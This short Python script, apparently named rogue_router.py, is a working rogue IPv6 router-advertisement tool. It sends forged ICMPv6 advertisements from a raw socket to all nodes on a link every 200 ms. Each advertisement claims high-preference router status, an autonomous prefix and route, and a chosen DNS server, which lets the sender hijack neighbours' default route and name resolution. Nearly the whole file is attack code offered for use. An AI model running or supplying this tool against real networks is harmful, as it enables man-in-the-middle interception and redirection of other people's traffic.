# SPDX-License-Identifier: GPL-3.0-or-later
"""A router advertisement that nobody asked for: rogue_router.py INTERFACE PREFIX DNS

Every 200 ms to all nodes (RFC 4861, 4191, 8106): "I am your router, of high preference; PREFIX/64 is
on this very link; PREFIX/64 is best reached through me; ask DNS for names."
"""
import socket
import struct
import sys
import time

ADVERTISEMENT, PERIOD, LIFETIME, HIGH = 134, 0.2, 1800, 0x08
PREFIX, ROUTE, RDNSS = 3, 24, 25
ON_LINK_AND_AUTONOMOUS = 0xC0


def advertisement(prefix, dns):
    network = socket.inet_pton(socket.AF_INET6, prefix)
    # Checksum: the kernel's. Hop limit 64, high preference.
    packet = struct.pack("!BBHBBHII", ADVERTISEMENT, 0, 0, 64, HIGH, LIFETIME, 0, 0)
    packet += struct.pack("!BBBBIII", PREFIX, 4, 64, ON_LINK_AND_AUTONOMOUS, LIFETIME, LIFETIME, 0)
    packet += network
    packet += struct.pack("!BBBBI", ROUTE, 3, 64, HIGH, LIFETIME) + network
    return packet + struct.pack("!BBHI", RDNSS, 3, 0, LIFETIME) + socket.inet_pton(socket.AF_INET6, dns)


def main():
    interface, prefix, dns = sys.argv[1:]
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    everyone = ("ff02::1", 0, 0, socket.if_nametoindex(interface))
    print("ready", flush=True)
    while True:
        sock.sendto(advertisement(prefix, dns), everyone)
        time.sleep(PERIOD)


main()
